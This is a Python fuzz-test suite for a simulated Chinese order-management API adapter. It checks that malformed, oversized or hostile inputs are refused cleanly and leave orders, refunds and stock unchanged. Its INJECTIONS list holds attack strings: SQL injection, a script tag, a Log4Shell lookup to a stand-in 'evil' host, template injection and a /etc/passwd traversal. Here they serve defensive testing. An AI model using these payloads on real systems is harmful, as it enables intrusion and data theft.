"""Fuzzing the OMS 旺店通旗舰版 adapter: whatever arrives, the answer is `{status, message}`.

Budget: 2,000 generated inputs for this adapter (tests/support/fuzzing.py), split by `share`.
Property: HTTP 200 (or the documented 504 fault path, not configured here), never 5xx; a
refusal has `status != 0` and a message, and changes no order, line, refund or stock row.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from typing import Any

import httpx
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from fake_systems.common.credentials import OmsCredentials
from fake_systems.oms.api.wdt import (
    MAX_BODY_BYTES,
    METHOD_QUERY,
    METHOD_RAW_TRADE_PUSH,
    METHODS,
    MSG_STATUS_LIST,
    create_app,
)
from fake_systems.oms.service import OmsService
from simulator.world import World
from tests.support.fuzzing import (
    fuzz_context,
    fuzz_settings,
    hostile_values,
    huge_integers,
    odd_numerals,
)
from tests.support.oms import raw_lines, raw_trade

pytestmark = pytest.mark.fuzz

CREDS = OmsCredentials(sid="fuzz", app_key="oms_fuzz", app_secret="fuzz-secret:fuzz-salt")
TENANT = OmsCredentials(
    sid="fuzz-b", app_key="oms_b", app_secret="b-secret:b-salt", owners=("OWNER-B",)
)
INJECTIONS = (
    "'; DROP TABLE orders;--",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/x}",
    "{{7*7}}",
    "../../etc/passwd",
    "1 OR 1=1",
    "%00%0a",
    "\u202e\u0000",
)
FIELDS = (
    "shop_no",
    "tid",
    "start_time",
    "end_time",
    "status",
    "page_size",
    "page_no",
    "trade_no",
    "logistics_code",
    "logistics_no",
    "state",
    "modified_from",
    "modified_to",
    "type",
    "warehouse_no",
    "defect_mode",
    "spec_no",
    "new_num",
)


def sign(secret: str, params: dict[str, str]) -> str:
    """旗舰版, re-derived from the public clients (see test_oms_sdk.py, alongside)."""
    joined = "".join(k + params[k] for k in sorted(params))
    return hashlib.md5((secret + joined + secret).encode()).hexdigest()


@pytest.fixture(scope="module")
def fake(
    tmp_path_factory: pytest.TempPathFactory, fuzz_world: World
) -> Iterator[tuple[TestClient, OmsService]]:
    ctx = fuzz_context("oms", tmp_path_factory)
    service = OmsService(ctx, CREDS)
    service.setup(fuzz_world)
    with TestClient(create_app(service, CREDS, [TENANT]), raise_server_exceptions=False) as client:
        yield client, service


def snapshot(service: OmsService) -> tuple[Any, ...]:
    """A cheap fingerprint of every business table (the history is meant to grow)."""
    return tuple(
        service.conn.execute(
            "SELECT (SELECT COUNT(*) || ':' || TOTAL(trade_status) || ':' ||"
            " COUNT(logistics_no) FROM orders),"
            " (SELECT COUNT(*) || ':' || TOTAL(refund_status) FROM order_lines),"
            " (SELECT COUNT(*) || ':' || TOTAL(status) FROM refunds),"
            " (SELECT COUNT(*) || ':' || TOTAL(stock_num) FROM stock),"
            " (SELECT COUNT(*) FROM logistics_traces)"
        ).fetchone()
    )


def post(
    client: TestClient,
    service: OmsService,
    method: str,
    raw: bytes,
    creds: OmsCredentials = CREDS,
    pager: dict[str, str] | None = None,
) -> httpx.Response:
    secret, _, salt = creds.app_secret.partition(":")
    params = {
        "sid": creds.sid,
        "key": creds.app_key,
        "salt": salt,
        "method": method,
        "timestamp": str(int(service.ctx.clock.wall()) - 1325347200),
        "v": "1.0",
        **({"page_size": "40", "page_no": "0"} if pager is None else pager),
    }
    params["sign"] = sign(secret, {**params, "body": raw.decode("utf-8", "replace")})
    return client.post("/openapi", params=params, content=raw)


def check(response: httpx.Response, before: tuple[Any, ...], service: OmsService) -> Any:
    """The property; returns the answer."""
    assert response.status_code == 200, response.text
    answer = orjson.loads(response.content)
    assert isinstance(answer, dict) and isinstance(answer.get("status"), int)
    assert answer["status"] != 99, answer  # an internal error is a bug of the fake
    if answer["status"] != 0:
        # 旗舰版 sends `message` only with an error.
        assert isinstance(answer.get("message"), str) and answer["message"]
        assert "data" not in answer
        assert snapshot(service) == before
    return answer


json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False),
    st.text(max_size=30),
    st.sampled_from(INJECTIONS),
    st.sampled_from(("2026-11-10 20:00:00", "2026-11-10 20:30:00", "TM-A", "TM-B", "0", "30")),
    hostile_values,
)
json_value = st.recursive(
    json_leaf,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)


@fuzz_settings(0.35)
@given(
    method=st.sampled_from(sorted(METHODS)),
    body=st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=8), json_value, max_size=6),
    extra=st.lists(json_value, max_size=2),
    tenant=st.booleans(),
)
def test_wrong_types_missing_and_extra_fields(
    fake: tuple[TestClient, OmsService],
    method: str,
    body: dict[str, Any],
    extra: list[Any],
    tenant: bool,
) -> None:
    client, service = fake
    before = snapshot(service)
    raw = json.dumps([body, *extra]).encode()
    check(post(client, service, method, raw, TENANT if tenant else CREDS), before, service)


@fuzz_settings(0.2)
@given(
    method=st.sampled_from(sorted(METHODS)),
    raw=st.one_of(
        st.binary(max_size=200),
        st.text(max_size=200).map(str.encode),
        st.sampled_from((b"{", b"[]", b"null", b'"x"', b"\xff\xfe{}", b'{"a":1}' * 3, b"1e999")),
    ),
)
def test_malformed_bodies(fake: tuple[TestClient, OmsService], method: str, raw: bytes) -> None:
    client, service = fake
    before = snapshot(service)
    answer = check(post(client, service, method, raw), before, service)
    try:
        orjson.loads(raw)
    except orjson.JSONDecodeError:
        assert answer["status"] == 1


@fuzz_settings(0.3)
@given(
    tid=st.text(min_size=1, max_size=20).filter(str.strip),
    text=st.one_of(st.sampled_from(INJECTIONS), st.text(min_size=1, max_size=40).filter(str.strip)),
    field=st.sampled_from(("receiver_name", "receiver_address", "buyer_nick")),
    broken=st.one_of(
        st.none(),
        st.tuples(st.sampled_from(("num", "price", "share_amount", "spec_no", "oid")), json_value),
    ),
)
def test_push_stores_text_verbatim_or_refuses(
    fake: tuple[TestClient, OmsService],
    fuzz_world: World,
    tid: str,
    text: str,
    field: str,
    broken: tuple[str, Any] | None,
) -> None:
    """pushSelf2 refuses a bad trade in `error_list` (status 0) and stores nothing of it."""
    client, service = fake
    entry, lines = raw_trade(fuzz_world, tid), raw_lines(fuzz_world, tid)
    entry[field] = text
    if broken is not None:
        lines[0][broken[0]] = broken[1]
    before = snapshot(service)
    known = service.conn.execute(
        "SELECT COUNT(*) FROM orders WHERE shop_no = 'TM-A' AND src_tid = ?", (tid.strip(),)
    ).fetchone()[0]
    body = json.dumps(["TM-A", [entry], lines]).encode()
    answer = check(post(client, service, METHOD_RAW_TRADE_PUSH, body), before, service)
    limit = 256 if field == "receiver_address" else 100
    fine = acceptable(text, limit, breaks=True) and acceptable(tid, 40)
    if answer["status"] != 0:
        # A body the JSON reader refuses (a lone surrogate, Infinity): refused whole.
        assert broken is not None or not fine, answer
        return
    refused = answer["data"]["error_list"]
    if refused:
        assert answer["data"]["new_count"] == 0 and snapshot(service) == before
    elif not known:
        stored = service.conn.execute(
            f"SELECT {field} FROM orders WHERE shop_no = 'TM-A' AND src_tid = ?", (tid.strip(),)
        ).fetchone()[0]
        assert stored == text.strip()
    if broken is None:
        assert bool(refused) != fine, (refused, text, tid)
    elif not fine:
        assert refused


def acceptable(text: str, limit: int, breaks: bool = False) -> bool:
    """docs/protocols/oms.md's rule for text, re-derived: within `limit`, no control
    characters (tab and line breaks allowed in free text), surrogates or non-characters."""
    allowed = "\t\n\r" if breaks else ""
    return len(text) <= limit and not any(
        (ord(c) < 0x20 and c not in allowed)
        or 0x7F <= ord(c) <= 0x9F
        or 0xD800 <= ord(c) <= 0xDFFF
        or c in "\ufffe\uffff"
        for c in text
    )


@fuzz_settings(0.1)
@given(
    field=st.sampled_from(("page_size", "page_no", "status")),
    value=odd_numerals | huge_integers | huge_integers.map(str),
)
def test_odd_or_huge_numerals_are_bad_parameters(
    fake: tuple[TestClient, OmsService], field: str, value: object
) -> None:
    client, service = fake
    window = {"start_time": "2026-11-10 20:00:00", "end_time": "2026-11-10 20:30:00"}
    pager = {"page_size": "40", "page_no": "0"}
    before = snapshot(service)
    if field == "status":
        raw = orjson.dumps([{**window, "status": value}])
        answer = check(post(client, service, METHOD_QUERY, raw), before, service)
        # The doc's message for a status filter that is not comma-separated integers.
        assert (answer["status"], answer["message"]) == (100, MSG_STATUS_LIST)
        return
    text = value if isinstance(value, str) else str(value)
    pager[field] = text
    answer = check(
        post(client, service, METHOD_QUERY, orjson.dumps([window]), pager=pager), before, service
    )
    # The pager is in the query string: not an int → 1; blank → the paged-only refusal (100).
    if text.strip():
        assert answer["status"] in (1, 100)
    else:
        assert answer["status"] == 100 and answer["message"].startswith("此方法仅支持分页查询")


@fuzz_settings(0.01)
@given(extra=st.integers(min_value=1, max_value=4096))
def test_oversized_bodies_are_refused(fake: tuple[TestClient, OmsService], extra: int) -> None:
    client, service = fake
    before = snapshot(service)
    raw = b'["' + b"x" * (MAX_BODY_BYTES + extra) + b'"]'
    answer = check(post(client, service, METHOD_RAW_TRADE_PUSH, raw), before, service)
    assert answer["status"] == 1 and "larger than" in answer["message"]
